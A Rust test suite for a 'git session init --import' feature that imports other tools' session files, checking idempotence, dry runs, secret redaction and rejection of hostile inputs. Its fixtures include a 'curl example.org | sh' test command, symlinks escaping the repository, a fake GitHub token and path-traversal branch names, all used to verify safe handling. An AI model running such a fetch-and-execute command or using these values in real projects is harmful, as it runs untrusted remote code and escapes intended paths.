//! `git session init --import`: what other session tools have left comes in once, and stays as it is.

use std::fs;
use std::os::unix::fs::symlink;

use serde_json::Value;

use super::support::Repo;

/// A project that was worked on with another tool, on its branch.
fn project() -> Repo {
    let repo = Repo::empty();
    repo.commit("README", "a project\n", "First");
    repo.git(&["switch", "-q", "-c", "feature/auth"]).done();
    repo.write(
        ".session/config.yaml",
        "session:\n  auto_checkpoint: false\n  checkpoint_interval: 1h\n  nonsense: 1\n\
         context:\n  architecture: hexagonal\n  patterns:\n    - repository-pattern\n    - cqrs\n\
         quality:\n  coverage_threshold: 200\n  test_command: curl example.org | sh\n\
         display:\n  color: true\n  verbose: debug\n  emoji:\n",
    );
    repo.write(
        ".sessions/state.json",
        r#"{"branch":"feature/auth","objectives":["Google OAuth",{"text":"Provider interface","completed":true}],
            "started_at":"2025-11-12T14:30:00.123456","mode":"tdd"}"#,
    );
    repo.write(
        ".sessions/checkpoints/2025-11-12T15-00-00.md",
        "# Checkpoint: 2025-11-12T15-00-00\n\n**Label**: Half way\n**Time**: 2025-11-12 15:00:00\n**Commit**: 0123abc\n\n## Notes\n\nUse ghp_0123456789abcdefghijABCDEFGHIJ012345\n",
    );
    repo.write(
        ".sessions/checkpoints/2025-11-12T15-10-00-HANDOFF.md",
        "# Session Handoff: 2025-11-12\n\n**Branch**: feature/auth\n**Date**: 2025-11-12 15:10\n\n## Remember\n- Tokens expire\n",
    );
    repo.write(".sessions/checkpoints/broken.md", "nothing of ours\n");
    repo.write(
        "feature_list.json",
        r#"[{"id":"auth-001","description":"Log in","passes":true},{"id":"auth-002","description":"Log out","passes":false}]"#,
    );
    repo.write(
        "claude-progress.txt",
        "# Session Progress\n## Session 1 - 2025-11-11 09:00\n### Accomplishments\n- Set up\n",
    );
    repo.write(
        ".claude/handoffs/current.json",
        r#"{"id":"handoff-20251112-160000","timestamp":"2025-11-12T16:00:00","state":{"next_steps":["Ship"]},"summary":"Nearly done"}"#,
    );
    repo.write(
        ".claude/handoffs/handoff-20251112-160000.json",
        r#"{"id":"handoff-20251112-160000","timestamp":"2025-11-12T16:00:00","state":{"next_steps":["Ship"]},"summary":"Nearly done"}"#,
    );
    repo.write(".claude/checkpoints/checkpoint-1.json", "{ torn");
    repo
}

/// What everything of others holds.
fn others(repo: &Repo) -> String {
    repo.sh("find .sessions .claude feature_list.json claude-progress.txt .session/config.yaml -type f | sort | xargs sha256sum")
        .text()
}

#[test]
fn everything_comes_in_once() {
    let repo = project();
    let before = others(&repo);
    insta::assert_snapshot!(repo.session(&["init", "--import", "--hooks"]), @r#"
    --- stdout
    Sessions are kept in [ROOT]/repo/.git/sessions
    Wrote .session/config.toml
    Wrote .session/architecture.md
    Wrote .session/conventions.md
    Hooks installed (link): all six.
    Setting session.auto_checkpoint = false (.session/config.yaml:2)
    Setting session.checkpoint_interval = "1h" (.session/config.yaml:3)
    Setting session.nonsense is not known here (.session/config.yaml:4)
    Setting context.architecture = "hexagonal" (.session/config.yaml:6)
    Setting context.patterns = ["repository-pattern", "cqrs"] (.session/config.yaml:7)
    Setting quality.coverage_threshold does not fit: expected a whole number from 0 to 100 (.session/config.yaml:11)
    Setting quality.test_command is personal and not taken from a repository: git config session.quality.testCommand <value> (.session/config.yaml:12)
    Setting display.color = "auto" (.session/config.yaml:14)
    Setting display.verbose = true (.session/config.yaml:15)
    Setting display.emoji has no value (.session/config.yaml:16)
    Began a session on feature/auth: 4 objectives (2 completed), 4 notes
    Skipped .sessions/checkpoints/broken.md: it is neither checkpoint nor handoff
    Skipped .claude/checkpoints/checkpoint-1.json: it is no JSON
    Read 8 files; none of them was changed.
    Commits on a branch with a session carry Session trailers. They travel with the commits; everything else stays on this machine.
    Next: git session resume
    [EOF]
    "#);
    assert_eq!(others(&repo), before, "nothing of theirs changes");
    let checked = repo.session(&["doctor"]);
    let clock = "no time lies ahead of the clock or went back";
    assert!(checked.answer().contains(clock), "{checked}");
    insta::assert_snapshot!(repo.session(&["status"]), @"
    --- stdout
    Session on feature/auth  [tdd]
    active, 0m so far, started 2025-11-12 (feature-auth-20261120-769rdc)

    Objectives (2 of 4 done)
      [ ] Google OAuth (obj-tgat, obj-1)
      [x] Provider interface (obj-d3v3, obj-2)
      [x] auth-001: Log in (obj-hc29, obj-3)
      [ ] auth-002: Log out (obj-ne7h, obj-4)

    Test-driven work
      phase: none yet, a commit of test files begins RED

    Work tree
      feature/auth: 5 untracked

    Checkpoint
      due since 2025-11-12 15:30: git session checkpoint

    Next: git session checkpoint
    --- stderr
    log      [ROOT]/repo/.git/sessions/feature-auth-20261120-769rdc/log.jsonl
    mapping  branch.feature/auth.sessionId = feature-auth-20261120-769rdc
    [EOF]
    ");
    insta::assert_snapshot!(repo.session(&["objectives", "list", "--all"]), @"
    --- stdout
    [ ] Google OAuth (obj-tgat, obj-1)
    [x] Provider interface (obj-d3v3, obj-2)
    [x] auth-001: Log in (obj-hc29, obj-3)
    [ ] auth-002: Log out (obj-ne7h, obj-4)
    [EOF]
    ");
}

#[test]
fn checkpoints_and_handoffs_are_notes_in_order() {
    let repo = project();
    repo.session(&["init", "--import", "--no-hooks"]).done();
    insta::assert_snapshot!(repo.session(&["note", "list"]), @"
    --- stdout
    2025-11-11 (note-xrkm, note-1)
        Progress: Session 1 - 2025-11-11 09:00

        ### Accomplishments
        - Set up
    2025-11-12 (note-3mk1, note-2)
        Checkpoint: Half way

        **Commit**: 0123abc

        ## Notes

        Use [REDACTED:github-token]
    2025-11-12 (note-wtpx, note-3)
        Handoff: 2025-11-12 15:10

        **Branch**: feature/auth

        ## Remember
        - Tokens expire
    2025-11-12 (note-33jt, note-4)
        Handoff: Nearly done

        Next:
        - Ship
    just now (note-sp6t, note-5)
        Imported from .sessions/state.json, feature_list.json, claude-progress.txt,
        .sessions/checkpoints/2025-11-12T15-00-00.md, 3 more files
    [EOF]
    ");
}

#[test]
fn settings_come_into_the_file_of_the_project() {
    let repo = project();
    repo.session(&["init", "--import", "--no-hooks"]).done();
    let set = repo.sh("grep -v '^#' .session/config.toml | grep .").text();
    insta::assert_snapshot!(set, @r#"
    [session]
    auto_checkpoint = false
    checkpoint_interval = "1h"
    [checkpoint]
    [context]
    architecture = "hexagonal"
    patterns = ["repository-pattern", "cqrs"]
    [tracking]
    [quality]
    [display]
    color = "auto"
    verbose = true
    [memory]
    "#);
}

#[test]
fn a_second_import_adds_nothing() {
    let repo = project();
    repo.session(&["init", "--import", "--hooks"]).done();
    let log = repo.read(repo.session_file("log.jsonl"));
    assert!(!log.contains("ghp_"), "{log}");
    insta::assert_snapshot!(repo.session(&["init", "--import"]), @r#"
    --- stdout
    Sessions are kept in [ROOT]/repo/.git/sessions
    Kept .session/config.toml
    Kept .session/architecture.md
    Kept .session/conventions.md
    Setting session.auto_checkpoint stays as .session/config.toml has it (.session/config.yaml:2)
    Setting session.checkpoint_interval stays as .session/config.toml has it (.session/config.yaml:3)
    Setting session.nonsense is not known here (.session/config.yaml:4)
    Setting context.architecture stays as .session/config.toml has it (.session/config.yaml:6)
    Setting context.patterns stays as .session/config.toml has it (.session/config.yaml:7)
    Setting quality.coverage_threshold does not fit: expected a whole number from 0 to 100 (.session/config.yaml:11)
    Setting quality.test_command is personal and not taken from a repository: git config session.quality.testCommand <value> (.session/config.yaml:12)
    Setting display.color stays as .session/config.toml has it (.session/config.yaml:14)
    Setting display.verbose stays as .session/config.toml has it (.session/config.yaml:15)
    Setting display.emoji has no value (.session/config.yaml:16)
    Skipped .sessions/checkpoints/broken.md: it is neither checkpoint nor handoff
    Skipped .claude/checkpoints/checkpoint-1.json: it is no JSON
    Nothing in the files is new to a session.
    Read 8 files; none of them was changed.
    Commits on a branch with a session carry Session trailers. They travel with the commits; everything else stays on this machine.
    Next: git session start <branch> -o "what is to be reached"
    [EOF]
    "#);
    assert_eq!(
        repo.read(repo.session_file("log.jsonl")),
        log,
        "a second import adds nothing"
    );

    // the next commit counts no time of a year ago
    repo.stage("a", "1\n");
    repo.wait(5);
    repo.git(&["commit", "-q", "-m", "Work"]).done();
    let time = repo.trailers("HEAD", "Session-Time");
    assert!(
        time.iter()
            .all(|time| time.ends_with('m') && !time.contains('h')),
        "{time:?}"
    );
    repo.session(&["doctor"]).done();
    assert_eq!(
        repo.read(repo.session_file("log.jsonl"))
            .matches("session.started")
            .count(),
        1
    );
}

#[test]
fn a_dry_run_writes_nothing() {
    let repo = project();
    let tree = || repo.sh("find . -type f | sort | xargs sha256sum").text();
    let before = tree();
    insta::assert_snapshot!(repo.session(&["init", "--import", "--dry-run"]), @r#"
    --- stdout
    Setting session.auto_checkpoint = false (.session/config.yaml:2)
    Setting session.checkpoint_interval = "1h" (.session/config.yaml:3)
    Setting session.nonsense is not known here (.session/config.yaml:4)
    Setting context.architecture = "hexagonal" (.session/config.yaml:6)
    Setting context.patterns = ["repository-pattern", "cqrs"] (.session/config.yaml:7)
    Setting quality.coverage_threshold does not fit: expected a whole number from 0 to 100 (.session/config.yaml:11)
    Setting quality.test_command is personal and not taken from a repository: git config session.quality.testCommand <value> (.session/config.yaml:12)
    Setting display.color = "auto" (.session/config.yaml:14)
    Setting display.verbose = true (.session/config.yaml:15)
    Setting display.emoji has no value (.session/config.yaml:16)
    Would begin a session on feature/auth: 4 objectives (2 completed), 4 notes
    Skipped .sessions/checkpoints/broken.md: it is neither checkpoint nor handoff
    Skipped .claude/checkpoints/checkpoint-1.json: it is no JSON
    Read 8 files; nothing was written.
    [EOF]
    "#);
    assert_eq!(tree(), before);
    let json = repo
        .session(&["init", "--import", "--dry-run", "--json"])
        .text();
    let json: Value = serde_json::from_str(&json).unwrap();
    insta::assert_snapshot!(serde_json::to_string_pretty(&json["import"]["sessions"]).unwrap(), @r#"
    [
      {
        "branch": "feature/auth",
        "completed": 2,
        "new": true,
        "notes": 4,
        "objectives": 4
      }
    ]
    "#);
    assert_eq!(tree(), before);
    insta::assert_snapshot!(repo.session(&["init", "--dry-run"]), @"
    --- stderr
    error: the following required arguments were not provided:
      --import

    Usage: git session init --import --dry-run
    hint: git session init -h
    --- exit 2
    [EOF]
    ");
}

#[test]
fn what_was_added_since_comes_in_the_next_time() {
    let repo = project();
    repo.session(&["init", "--import", "--no-hooks"]).done();
    repo.write(
        "feature_list.json",
        r#"[{"id":"auth-001","description":"Log in","passes":true},{"id":"auth-002","description":"Log out","passes":true},
            {"id":"auth-003","description":"Forget me","passes":false}]"#,
    );
    repo.write(
        "claude-progress.txt",
        "# Session Progress\n## Session 1 - 2025-11-11 09:00\n### Accomplishments\n- Set up\n\n## Session 2 - 2025-11-13 09:00\n### Accomplishments\n- More\n",
    );
    let answer = repo.session(&["init", "--import", "--dry-run"]).text();
    let line = answer
        .lines()
        .find(|line| line.contains("Would add"))
        .unwrap();
    insta::assert_snapshot!(line, @"Would add to the session on feature/auth: 1 objective (1 completed), 1 note");
    let answer = repo.session(&["init", "--import", "--no-hooks"]).text();
    let line = answer.lines().find(|line| line.contains("Added")).unwrap();
    insta::assert_snapshot!(line, @"Added to the session on feature/auth: 1 objective (1 completed), 1 note");
}

#[test]
fn what_was_done_here_since_is_not_done_again() {
    let repo = project();
    repo.session(&["init", "--import", "--no-hooks"]).done();
    repo.session(&["objectives", "complete", "obj-4"]).done();
    repo.session(&["objectives", "edit", "obj-3", "Sign in"])
        .done();
    let log = repo.read(repo.session_file("log.jsonl"));
    repo.write(
        "feature_list.json",
        r#"[{"id":"auth-001","description":"Log in","passes":true},{"id":"auth-002","description":"Log out","passes":true}]"#,
    );
    let answer = repo.session(&["init", "--import", "--no-hooks"]).text();
    assert!(answer.contains("Nothing in the files is new"), "{answer}");
    assert_eq!(repo.read(repo.session_file("log.jsonl")), log);
}

#[test]
fn what_another_clone_has_imported_and_shared_comes_in_once() {
    let repo = project();
    repo.git(&["add", "-A"]).done();
    repo.git(&["commit", "-q", "-m", "All of it"]).done();
    repo.git(&["clone", "-q", "--bare", ".", "../bare.git"])
        .done();
    for name in ["one", "two"] {
        repo.git(&[
            "clone",
            "-q",
            "-b",
            "feature/auth",
            "../bare.git",
            &format!("../{name}"),
        ])
        .done();
    }
    let (one, two) = (repo.at("../one"), repo.at("../two"));
    one.session(&["init", "--import", "--no-hooks"]).done();
    one.session(&["sync", "--yes"]).done();
    two.session(&["init", "--no-hooks"]).done();
    two.session(&["sync", "--yes"]).done();
    let answer = two.session(&["init", "--import", "--no-hooks"]).text();
    assert!(
        answer.contains("another clone has shared this session: git session resume feature/auth"),
        "{answer}"
    );
    assert_eq!(two.mapped("feature/auth"), None);
    two.session(&["resume"]).done();
    // notes are not shared: they come in here, too
    let answer = two.session(&["init", "--import", "--no-hooks"]).text();
    assert!(
        answer.contains("feature/auth: 0 objectives, 4 notes"),
        "{answer}"
    );
    let list = two.session(&["objectives", "list", "--all"]);
    assert_eq!(list.answer().matches("Google OAuth").count(), 1, "{list}");
    assert!(!list.news().contains("Two different events"), "{list}");
}

#[test]
fn an_open_session_gets_what_it_does_not_say_yet() {
    let repo = project();
    repo.session(&["start", "-o", "Google OAuth"]).done();
    repo.session(&["init", "--import"]).done();
    let list = repo.session(&["objectives", "list", "--all"]).text();
    assert_eq!(list.matches("Google OAuth").count(), 1, "{list}");
    assert!(list.contains("[x] Provider interface"), "{list}");
    assert_eq!(
        repo.session(&["list", "--all", "--json"])
            .text()
            .matches("\"id\"")
            .count(),
        1
    );
}

#[test]
fn a_session_that_is_over_stays_so() {
    let repo = project();
    repo.write(
        ".sessions/state.json",
        r#"{"branch":"feature/auth","objectives":["Done"],"started_at":"2025-11-12T14:30:00","status":"completed","ended_at":"2025-11-12T18:00:00"}"#,
    );
    for name in ["feature_list.json", "claude-progress.txt"] {
        fs::remove_file(repo.path().join(name)).unwrap();
    }
    fs::remove_dir_all(repo.path().join(".claude")).unwrap();
    repo.session(&["init", "--import", "--no-hooks"]).done();
    assert_eq!(repo.mapped("feature/auth"), None);
    insta::assert_snapshot!(repo.session(&["list", "--all"]), @"
    --- stdout
      Branch        State  Done  Active  Last activity  Session
      feature/auth  ended   0/1      0m  just now       feature-auth-20261120-769rdc
    --- stderr
    index    [ROOT]/repo/.git/sessions/index.jsonl
    mapping  branch.<name>.sessionId in git config
    [EOF]
    ");
    let again = repo.session(&["init", "--import", "--no-hooks"]).text();
    assert!(again.contains("Nothing in the files is new"), "{again}");
}

#[test]
fn a_session_of_a_branch_that_is_not_here_is_listed() {
    let repo = project();
    repo.git(&["switch", "-q", "main"]).done();
    repo.git(&["branch", "-q", "-D", "feature/auth"]).done();
    repo.session(&["init", "--import", "--no-hooks"]).done();
    insta::assert_snapshot!(repo.session(&["list", "--all"]), @"
    --- stdout
       Branch        State                Done  Active  Last activity  Session
    *  main          active                1/2      0m  just now       main-20261120-4mvpzr
       feature/auth  active, branch gone   1/2      0m  just now       feature-auth-20261120-769rdc
    --- stderr
    index    [ROOT]/repo/.git/sessions/index.jsonl
    mapping  branch.<name>.sessionId in git config
    [EOF]
    ");
}

#[test]
fn hostile_files_are_named_and_skipped() {
    let repo = Repo::empty();
    repo.commit("README", "a project\n", "First");
    let outside = repo.path().parent().unwrap().join("outside");
    fs::create_dir_all(outside.join("checkpoints")).unwrap();
    fs::write(
        outside.join("checkpoints/a.md"),
        "# Checkpoint: x\nsecret\n",
    )
    .unwrap();
    fs::write(
        outside.join("list.json"),
        "[{\"description\":\"secret\",\"passes\":false}]",
    )
    .unwrap();
    symlink(&outside, repo.path().join(".sessions")).unwrap();
    symlink(
        outside.join("list.json"),
        repo.path().join("feature_list.json"),
    )
    .unwrap();
    fs::create_dir_all(repo.path().join(".claude/handoffs")).unwrap();
    repo.write("claude-progress.txt", vec![b'x'; 2 * 1024 * 1024]);
    repo.write(".claude/handoffs/deep.json", "[".repeat(100_000));
    repo.write(
        ".claude/handoffs/odd.json",
        "\u{feff}{\"summary\": 7, \"state\": []}",
    );
    repo.run("mkfifo", &[".claude/handoffs/pipe.json"]).done();
    fs::create_dir_all(repo.path().join(".claude/handoffs/folder.json")).unwrap();
    let output = repo.session(&["init", "--import", "--no-hooks"]);
    let text = output.answer();
    let skipped: Vec<&str> = text
        .lines()
        .filter(|line| line.starts_with("Skipped"))
        .collect();
    insta::assert_snapshot!(skipped.join("\n"), @"
    Skipped .sessions/state.json: .sessions is a symbolic link
    Skipped feature_list.json: feature_list.json is a symbolic link
    Skipped claude-progress.txt: it is larger than 1 MiB
    Skipped .sessions/checkpoints: .sessions is a symbolic link
    Skipped .sessions/handoffs: .sessions is a symbolic link
    Skipped .claude/handoffs/deep.json: it is no JSON
    Skipped .claude/handoffs/folder.json: it is a directory
    Skipped .claude/handoffs/pipe.json: it is no regular file
    ");
    output.done();
    let said = repo.sh("cat .git/sessions/*/log.jsonl").text();
    assert!(!said.contains("secret"), "{said}");
}

#[test]
fn a_hostile_branch_name_begins_no_session() {
    for name in [
        "../../x",
        "-x",
        "a..b",
        "a b",
        "refs/heads/../x",
        "x\\u0000y",
        "@{-1}",
    ] {
        let repo = Repo::empty();
        repo.commit("README", "a project\n", "First");
        repo.write(
            ".sessions/state.json",
            format!("{{\"branch\":\"{name}\",\"objectives\":[\"x\"]}}"),
        );
        let output = repo.session(&["init", "--import", "--no-hooks"]);
        let text = output.answer();
        assert!(
            text.contains("Skipped .sessions/state.json: it names no branch"),
            "{name}: {text}"
        );
        output.done();
        let sessions = repo.session(&["list", "--all", "--json"]).text();
        assert!(!sessions.contains("\"id\""), "{name}: {sessions}");
    }
}

#[test]
fn where_nothing_is_there_is_nothing_to_import() {
    let repo = Repo::empty();
    let text = repo.session(&["init", "--import", "--no-hooks"]).text();
    assert!(text.contains("There is nothing to import"), "{text}");
}

#[test]
fn the_page_is_what_happens() {
    let repo = project();
    repo.write(".gitignore", ".ccmp\n");
    for name in [
        ".sessions/checkpoints/broken.md",
        ".claude/checkpoints/checkpoint-1.json",
    ] {
        fs::remove_file(repo.path().join(name)).unwrap();
    }
    repo.write(
        ".session/config.yaml",
        "session:\n  auto_checkpoint: false\n  checkpoint_interval: 1h\n  backlog: true\nquality:\n  test_command: make test\n",
    );
    repo.write(
        ".ccmp/state.json",
        "{\n  \"version\": \"1.0.0\",\n  \"plugins\": {\n    \"claude-context-manager\": {\n      \"health_score\": 85\n    }\n  }\n}\n",
    );
    crate::readme::check_page_in("docs/interop.md", &repo);
}
